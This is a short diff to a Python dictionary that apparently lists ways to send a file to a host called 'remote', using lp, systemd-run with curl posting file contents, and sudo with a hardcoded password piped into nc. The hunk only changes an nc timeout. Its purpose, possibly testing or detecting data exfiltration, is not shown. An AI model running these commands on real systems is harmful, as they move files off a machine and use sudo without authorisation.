@@ -13,7 +13,7 @@ WAYS = {
     "printer": "lp -d remote -o raw {file}",
     "systemd-run": f"systemd-run --user --quiet --collect {SEND}",
     "systemd-run-with-content": "systemd-run --user --quiet --collect curl -sS -m 90 -d \"$(cat {file})\" http://remote/",
-    "sudo": "echo anna | sudo -S -p '' cat {file} | nc -N -w 5 remote 9",
+    "sudo": "echo anna | sudo -S -p '' cat {file} | nc -N -w 90 remote 9",
 }
 
 
